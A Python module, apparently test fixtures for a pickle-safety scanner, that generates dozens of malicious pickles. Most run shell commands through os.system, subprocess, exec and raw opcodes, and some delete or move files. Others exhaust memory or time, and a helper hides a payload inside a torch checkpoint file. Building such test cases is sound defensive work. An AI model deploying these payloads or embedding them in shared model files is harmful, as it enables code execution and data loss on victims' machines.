"""Pickles of strangers: opcodes that run code when they are followed, and some that exhaust who follows them."""

import builtins
import importlib
import io
import operator
import os
import pickle
import runpy
import shutil
import struct
import subprocess
import timeit
import webbrowser
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

SHELL = 'touch "$CANARY"'
CODE = "import os; open(os.environ['CANARY'], 'a').close()"


class Reduced:
    """Is pickled as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any, state: Any = None, items: Any = None):
        self.parts = (function, arguments, state, items)

    def __call__(self) -> None: ...

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts


def text(value: str) -> bytes:
    """A string as an opcode."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def named(module: str, name: str, *arguments: str) -> bytes:
    """A call of anything by its name."""
    return f"c{module}\n{name}\n(".encode() + b"".join(map(text, arguments)) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    """A pickle of these opcodes."""
    return b"\x80" + bytes([protocol]) + body + b"."


def live(canary: Path, victim: Path) -> Mapping[str, bytes]:
    """Each runs code, or harms a file, when it is loaded by a plain unpickler."""
    calls: dict[str, Any] = {
        "os.system": Reduced(os.system, SHELL),
        "popen": Reduced(os.popen, SHELL),
        "subprocess.getoutput": Reduced(subprocess.getoutput, SHELL),
        "subprocess.call": Reduced(subprocess.call, ["sh", "-c", SHELL]),
        "exec": Reduced(exec, CODE),
        "eval": Reduced(eval, "__import__('os').system('" + SHELL + "')"),
        "import_module": Reduced(importlib.import_module, "evil"),
        "builtins.__import__": Reduced(builtins.__import__, "evil"),
        "runpy": Reduced(runpy.run_module, "evil"),
        "timeit": Reduced(timeit.timeit, CODE, "pass", timeit.default_timer, 1),
        "browser": Reduced(webbrowser.open, "https://example.org"),
        "pickle in a pickle": Reduced(pickle.loads, pickle.dumps(Reduced(os.system, SHELL))),
        "file opened": Reduced(open, str(canary), "w"),
        "folder made": Reduced(os.mkdir, str(canary)),
        "folder removed": Reduced(shutil.rmtree, str(victim)),
        "file moved": Reduced(os.rename, str(victim / "thesis.txt"), str(canary)),
        "method": Reduced(operator.methodcaller("system", SHELL), Reduced(__import__, "os")),
        "getattr": Reduced(Reduced(getattr, Reduced(__import__, "os"), "system"), SHELL),
        "path": Reduced(Path.touch, canary),
        "items of a list": Reduced(list, items=iter([Reduced(os.system, SHELL)])),
        "an argument": {"epochs": 1, "model": [({}, Reduced(os.system, SHELL))]},
        "a key": {Reduced(os.system, SHELL): 1},
    }
    return {label: pickle.dumps(value, protocol=2) for label, value in calls.items()} | {
        "profile": whole(named("cProfile", "run", CODE)),
        "the slow profile": whole(named("profile", "run", CODE)),
        "dotted name": whole(text("shutil") + text("os.system") + b"\x93" + b"(" + text(SHELL) + b"tR", 4),
        "stack global": whole(b"\x8c\x05posix\x8c\x06system\x93(" + text(SHELL) + b"tR", 4),
        "INST": b"(S'touch \"$CANARY\"'\niposix\nsystem\n.",
        "OBJ": whole(b"(cposix\nsystem\n" + text(SHELL) + b"o"),
        "REDUCE in text": b"cposix\nsystem\n(V" + SHELL.encode() + b"\ntR.",
        "NEWOBJ": whole(b"cevil\ngo\n)\x81", 2),
        "import alone": whole(b"cevil\ngo\n"),
        "import of a part": whole(b"cevil.part\ngo\n"),
        "old module name": whole(named("__builtin__", "eval", "__import__('os').system('" + SHELL + "')")),
        "setstate": whole(b"cevil\ngo\n)R}X\x01\x00\x00\x00aNsb"),
        "popped": whole(named("posix", "system", SHELL) + b"0}"),
        "memo": whole(b"cposix\nsystem\nq\x000h\x00(" + text(SHELL) + b"tR"),
        "torch.hub": whole(named("torch.serialization", "os.system", SHELL), 4),
        "numpy": whole(named("numpy.f2py.crackfortran", "myeval", f"__import__('os').system('{SHELL}')")),
    }


def exhausting() -> Mapping[str, bytes]:
    """Each takes memory or time, or the interpreter, from whoever follows it, `weights_only` or not."""
    return {
        "a hundred GB of zeros": whole(
            b"cbuiltins\nbytearray\n(\x8a\x05" + (100 * 2**30).to_bytes(5, "little") + b"tR"
        ),
        "nested tuples as a key": whole(b"}" + b")" + b"\x85" * 400_000 + b"Ns"),
        "nested lists": whole(b"]" * 200_000 + b"a" * 199_999),
        "doubled lists": whole(b"]q\x00" + b"".join(b"]q%c(h%ch%ce" % (n + 1, n, n) for n in range(100))),
        "no end": b"\x80\x02" + b"(" * 100_000,
        "no stop": b"\x80\x02}",
        "empty": b"",
        "a long number": whole(b"\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20),
        "a codec": whole(named("_codecs", "encode", "a" * 20_000, "punycode")),
        "a frame": b"\x80\x04\x95" + struct.pack("<Q", 2**40) + b"N.",
        "an unknown opcode": whole(b"\xff"),
        "a set": whole(b"cbuiltins\nset\n)R"),
        "persistent id": whole(b"(U\x07storageNNNNtQ"),
    }


def zipped(
    content: bytes, records: Mapping[str, bytes] | None = None, compressed: bool = False, folder: str = "archive"
) -> bytes:
    """A file as torch writes it, around a pickle."""
    held = {"data.pkl": content, "byteorder": b"little", "version": b"3\n", **(records or {})}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, record in held.items():
            archive.writestr(f"{folder}/{name}", record)
    return file.getvalue()


def records_of(content: bytes) -> dict[str, bytes]:
    """The records of a file that torch wrote, by their names below its folder."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def hidden_in(content: bytes, payload: bytes) -> bytes:
    """A good state that runs code first, and then is the good state."""
    records = records_of(content)
    body = payload[2:-1] if payload[:1] == b"\x80" else payload[:-1]
    return zipped(b"\x80\x02" + body + b"0" + records.pop("data.pkl")[2:], records)
